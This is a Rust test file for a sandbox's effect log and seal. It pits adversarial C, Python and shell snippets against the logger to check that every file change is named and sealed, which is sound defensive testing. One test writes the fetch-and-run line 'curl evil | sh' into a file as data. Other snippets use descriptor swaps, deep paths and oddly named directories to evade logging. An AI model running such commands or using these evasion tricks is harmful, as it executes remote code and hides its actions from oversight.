//! Files the log could once not name, or named wrongly, while `verify`
//! said ok (issue 13, session 13's adversarial review): flags the capture
//! cannot read, trees deeper than the kernel walk or than `PATH_MAX`, a
//! directory named like a deleted one, a directory removed before its
//! notifications were read, and descriptors swapped after the call. Each
//! test changes a file, then checks the log and its seal against the tree
//! seen from the host. Needs root and gcc (fails under CI=true without).

mod common;

use common::logged::*;
use common::*;
use serde_json::Value;

const AGENT: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void scribble(int fd) {
    char *m = mmap(0, 4, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (m == MAP_FAILED) exit(3);
    memcpy(m, "EVIL", 4);
    munmap(m, 4);
}

static void *speak(void *line) {
    write(1, line, strlen(line));
    return 0;
}

int main(int argc, char **argv) {
    if (!strcmp(argv[1], "openat2")) {
        /* struct open_how on a page never touched: the kernel faults it
           in, a capture reading it at entry cannot. */
        int h = open(argv[2], O_RDONLY);
        void *how = mmap(0, 4096, PROT_READ, MAP_PRIVATE, h, 0);
        if (how == MAP_FAILED) return 2;
        int fd = syscall(SYS_openat2, AT_FDCWD, argv[3], how, sizeof(struct open_how));
        if (fd < 0) return 4;
        scribble(fd);
        return 0;
    }
    if (!strcmp(argv[1], "fchmod") || !strcmp(argv[1], "fchmodat2")) {
        /* Its mode changed (sticky: setuid is refused), then another file put at its number. */
        int y = open("notes.txt", O_RDONLY);
        futimens(y, NULL);
        int x = open("hook.sh", O_RDONLY);
        if (!strcmp(argv[1], "fchmodat2")) {
            if (syscall(452, x, "", 01755, AT_EMPTY_PATH)) return 5;
        } else if (fchmod(x, 01755)) return 5;
        dup2(y, x);
        sleep(1);
        return 0;
    }
    if (!strcmp(argv[1], "deep")) {
        /* Deeper than the kernel walk; the descriptor is closed and the
           process gone before the supervisor reads the record. */
        for (int i = 0; i < atoi(argv[2]); i++)
            if (chdir("d")) return 6;
        int fd = open("A/f", O_RDWR);
        if (fd < 0) return 7;
        scribble(fd);
        return 0;
    }
    if (!strcmp(argv[1], "thread-write")) {
        /* A thread that writes to the inherited stdout and is gone before
           the supervisor can look it up. */
        pthread_t t;
        pthread_create(&t, 0, speak, argv[2]);
        pthread_join(t, 0);
        usleep(300000);
        return 0;
    }
    return 1;
}
"#;

/// `tartaros run --log LOG` of `argv` with `root` writable and current.
fn run_in(root: &Dir, log: &std::path::Path, argv: &[&str]) -> std::process::Output {
    let r = root.path().to_str().unwrap();
    let mut args = vec![
        "run",
        "--write",
        r,
        "--chdir",
        r,
        "--log",
        log.to_str().unwrap(),
        "--",
    ];
    args.extend_from_slice(argv);
    tartaros(&args, root.path())
}

fn sealed(records: &[Value]) -> Vec<(String, String)> {
    seal(records)["files"]
        .as_array()
        .expect("seal files")
        .iter()
        .map(|f| {
            (
                f["path"].as_str().unwrap().to_string(),
                f["sha256"].as_str().unwrap_or("").to_string(),
            )
        })
        .collect()
}

fn assert_sealed(records: &[Value], path: &std::path::Path) {
    let want = (
        path.to_str().unwrap().to_string(),
        sha256_hex(&std::fs::read(path).unwrap()),
    );
    let got = sealed(records);
    assert!(got.contains(&want), "{want:?} not in the seal: {got:#?}");
}

/// openat2's `open_how` is a struct seccomp cannot read (a setgid creation
/// mode hides there: docs/seccomp.md, "Privilege bits"), and one the
/// capture could not read at entry either when it sat on a page never
/// touched. The filter answers ENOSYS, as for clone3, so callers fall back
/// to openat: nothing is opened, and the file stays as it was.
#[test]
fn an_openat2_whose_flags_the_capture_cannot_read_opens_nothing() {
    if !usable("openat2_unread") {
        return;
    }
    let (root, logs, bin) = (Dir::new(), Dir::new(), Dir::new());
    let agent = compile(&bin, "agent", AGENT);
    // struct open_how { O_RDWR, 0, 0 }, padded to a page.
    let mut how = vec![0u8; 4096];
    how[..8].copy_from_slice(&(libc::O_RDWR as u64).to_ne_bytes());
    let how_file = bin.join("how.bin");
    std::fs::write(&how_file, &how).unwrap();
    chown(&how_file, NOBODY);
    let victim = root.file("victim.txt", "clean content\n");
    let (out, records) = run_logged(
        &root,
        &logs,
        &[
            agent.to_str().unwrap(),
            "openat2",
            how_file.to_str().unwrap(),
            victim.to_str().unwrap(),
        ],
    );
    assert_eq!(
        out.status.code(),
        Some(4),
        "openat2 opened: {}",
        stderr(&out)
    );
    assert_eq!(std::fs::read(&victim).unwrap(), b"clean content\n");
    assert!(
        !records
            .iter()
            .any(|r| r["kind"] == "open" && field(r, "path") == victim.to_str()),
        "{records:#?}"
    );
}

#[test]
fn a_descriptor_swapped_after_fchmod_does_not_rename_the_setuid_file() {
    if !usable("fchmod_swap") {
        return;
    }
    for how in ["fchmod", "fchmodat2"] {
        fchmod_then_swap(how);
    }
}

fn fchmod_then_swap(how: &str) {
    let (root, logs, bin) = (Dir::new(), Dir::new(), Dir::new());
    let agent = compile(&bin, "agent", AGENT);
    root.file("notes.txt", "notes\n");
    let hook = root.file("hook.sh", "#!/bin/sh\n");
    let log = logs.join("effects.jsonl");
    let out = run_in(&root, &log, &[agent.to_str().unwrap(), how]);
    assert!(out.status.success(), "{}", stderr(&out));
    use std::os::unix::fs::PermissionsExt as _;
    let mode = std::fs::metadata(&hook).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode, 0o1755, "the kernel changed hook.sh's mode");
    let records = common::records(&log);
    let chmods: Vec<&Value> = records.iter().filter(|r| r["kind"] == "chmod").collect();
    assert_eq!(chmods.len(), 1, "{records:#?}");
    assert_eq!(field(chmods[0], "path"), hook.to_str(), "{:#}", chmods[0]);
    assert_eq!(chmods[0]["target"]["mode"], 0o1755);
    assert_eq!(field(chmods[0], "path_source"), Some("kernel"));
}

#[test]
fn a_write_open_deeper_than_the_kernel_walk_is_sealed() {
    if !usable("deep_walk") {
        return;
    }
    let (root, logs, bin) = (Dir::new(), Dir::new(), Dir::new());
    let agent = compile(&bin, "agent", AGENT);
    let levels = 140;
    let mut deep = root.path().to_path_buf();
    for _ in 0..levels {
        deep.push("d");
    }
    let changed = deep.join("A/f");
    std::fs::create_dir_all(changed.parent().unwrap()).unwrap();
    std::fs::write(&changed, "clean A\n").unwrap();
    chown_tree(root.path());
    let log = logs.join("effects.jsonl");
    let out = run_in(
        &root,
        &log,
        &[agent.to_str().unwrap(), "deep", &levels.to_string()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::read(&changed).unwrap(), b"EVILn A\n");
    let verify = tartaros(&["log", "verify", log.to_str().unwrap()], root.path());
    assert_eq!(verify.status.code(), Some(0), "{}", stdout(&verify));
    assert_sealed(&common::records(&log), &changed);
}

#[test]
fn files_changed_past_path_max_or_in_removed_or_oddly_named_dirs_are_sealed() {
    if !usable("unnamed_dirs") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let important = root.file("important.txt", "original\n");
    let r = root.path().display();
    // 1. Moved past PATH_MAX, changed there, moved back.
    // 2. Changed in a directory named like a deleted one, moved out.
    // 3. Made and changed in a directory, moved out, the directory removed
    //    at once (before the supervisor reads the notifications).
    let code = format!(
        "import os\n\
         os.chdir('{r}')\n\
         comp = 'd' * 250\n\
         for i in range(17):\n    os.mkdir(comp); os.chdir(comp)\n\
         back = '../' * 17 + 'important.txt'\n\
         os.rename(back, 'important.txt')\n\
         fd = os.open('important.txt', os.O_WRONLY)\n\
         os.write(fd, b'EVIL'); os.close(fd)\n\
         os.rename('important.txt', back)\n\
         for i in range(17):\n    os.chdir('..'); os.rmdir(comp)\n\
         os.mkdir('x (deleted)')\n\
         with open('x (deleted)/config.sh', 'w') as f: f.write('curl evil | sh\\n')\n\
         os.rename('x (deleted)/config.sh', 'config.sh')\n\
         os.mkdir('t')\n\
         with open('t/f', 'w') as f: f.write('changed in t\\n')\n\
         os.rename('t/f', 'g')\n\
         os.rmdir('t')\n"
    );
    // The open past PATH_MAX is named by the agent's string alone: the
    // kernel's walk stops at 1,024 bytes, the descriptor is closed and
    // the string cannot be looked up (round 25b), so the log is
    // `incomplete`, the file sealed all the same.
    let (out, records, verdict, line) = run_logged_verdict(&root, &logs, &["python3", "-c", &code]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        verdict == Some(0) || (verdict == Some(3) && line.contains("no lookup confirmed")),
        "verify: {line}"
    );
    assert_eq!(std::fs::read(&important).unwrap(), b"EVILinal\n");
    for path in [important, root.join("config.sh"), root.join("g")] {
        assert_sealed(&records, &path);
    }
    let config = format!("{r}/config.sh");
    assert!(
        records.iter().any(|r| r["kind"] == "write"
            && field(r, "path")
                .is_some_and(|p| p.ends_with("x (deleted)/config.sh") || p == config)),
        "no write record for config.sh: {records:#?}"
    );
}

fn chown_tree(dir: &std::path::Path) {
    chown(dir, NOBODY);
    for entry in std::fs::read_dir(dir).unwrap() {
        let entry = entry.unwrap();
        chown(&entry.path(), NOBODY);
        if entry.file_type().unwrap().is_dir() {
            chown_tree(&entry.path());
        }
    }
}

#[test]
fn a_change_through_a_temporary_hard_link_is_sealed_under_the_file_s_own_name() {
    if !usable("hard_link_change") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let config = root.file("config.txt", "original config\n");
    let r = root.path().display();
    let script = format!("cd {r} && ln config.txt .tmp_x && echo evil=1 >> .tmp_x && rm .tmp_x");
    let (out, records) = run_logged(&root, &logs, &["sh", "-c", &script]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(&config).unwrap(),
        b"original config\nevil=1\n"
    );
    assert_sealed(&records, &config);
    let link = records
        .iter()
        .find(|r| r["kind"] == "link")
        .unwrap_or_else(|| panic!("no link record: {records:#?}"));
    assert_eq!(field(link, "from_source"), Some("agent"), "{link}");
}

/// Unmounts on drop, so a failing test leaves no mount behind.
struct Mounted(std::path::PathBuf);

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ = std::process::Command::new("umount").arg(&self.0).status();
    }
}

#[test]
fn files_on_a_mount_below_a_root_are_named_and_sealed() {
    if !usable("submount") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    let sub = root.join("sub");
    std::fs::create_dir(&sub).unwrap();
    let status = std::process::Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=1m,mode=0777", "tt-sub"])
        .arg(&sub)
        .status()
        .unwrap();
    assert!(status.success(), "mount a tmpfs below the root");
    let _mounted = Mounted(sub.clone());
    let existing = sub.join("existing");
    std::fs::write(&existing, "orig\n").unwrap();
    chown(&existing, NOBODY);
    let r = root.path().display();
    let script = format!("cd {r} && echo over > sub/existing && echo new > sub/created");
    let (out, records) = run_logged(&root, &logs, &["sh", "-c", &script]);
    assert!(out.status.success(), "{}", stderr(&out));
    for path in [existing, sub.join("created")] {
        assert_sealed(&records, &path);
        assert!(
            records
                .iter()
                .any(|r| r["kind"] == "write" && field(r, "path") == path.to_str()),
            "no write record for {}: {records:#?}",
            path.display()
        );
    }
}

#[test]
fn a_short_lived_thread_s_write_to_the_inherited_stdout_file_is_a_record() {
    if !usable("thread_stdout") {
        return;
    }
    let (root, logs, exe) = (Dir::new(), Dir::new(), Dir::new());
    let agent = compile(&exe, "agent", AGENT);
    // In the root: a stream file outside every root reaches the sandbox as
    // a pipe (stdio_relay.rs), and the agent's write is then to that pipe.
    let out_file = root.join("agent-output.txt");
    let log = logs.join("effects.jsonl");
    let status = std::process::Command::new(bin())
        .args([
            "run",
            "-q",
            "--write",
            root.path().to_str().unwrap(),
            "--log",
        ])
        .arg(&log)
        .args(["--", agent.to_str().unwrap(), "thread-write", "a line\n"])
        .current_dir(root.path())
        .stdout(std::fs::File::create(&out_file).unwrap())
        .status()
        .unwrap();
    assert!(status.success());
    assert_eq!(std::fs::read(&out_file).unwrap(), b"a line\n");
    let records = common::records(&log);
    let write = records
        .iter()
        .find(|r| r["kind"] == "write" && field(r, "path") == out_file.to_str())
        .unwrap_or_else(|| panic!("no write record for the output file: {records:#?}"));
    assert_eq!(field(write, "path_source"), Some("kernel"));
}

#[test]
fn a_truncate_through_a_symlink_is_not_pinned_on_the_file_written_before() {
    if !usable("truncate_symlink") {
        return;
    }
    let (root, logs) = (Dir::new(), Dir::new());
    root.file("notes.txt", "notes\n");
    let data = root.file("data.bin", "0123456789\n");
    let r = root.path().display();
    let code = format!(
        "import os\n\
         os.chdir('{r}')\n\
         fd = os.open('notes.txt', os.O_WRONLY | os.O_APPEND)\n\
         os.write(fd, b'more\\n'); os.close(fd)\n\
         os.symlink('data.bin', 'link')\n\
         os.truncate('link', 0)\n\
         fd = os.open('link', os.O_WRONLY | os.O_TRUNC); os.close(fd)\n"
    );
    let (out, records) = run_logged(&root, &logs, &["python3", "-c", &code]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(std::fs::metadata(&data).unwrap().len(), 0);
    let notes = format!("{r}/notes.txt");
    let truncates: Vec<&Value> = records.iter().filter(|r| r["kind"] == "truncate").collect();
    assert_eq!(truncates.len(), 2, "{records:#?}");
    for t in &truncates {
        assert_ne!(field(t, "path"), Some(notes.as_str()), "{t:#}");
    }
    // The truncating open is named by the kernel's file.
    let data_path = data.to_str().unwrap();
    assert!(
        truncates
            .iter()
            .any(|t| field(t, "path") == Some(data_path)
                && field(t, "path_source") == Some("kernel")),
        "{truncates:#?}"
    );
    assert_sealed(&records, &data);
}
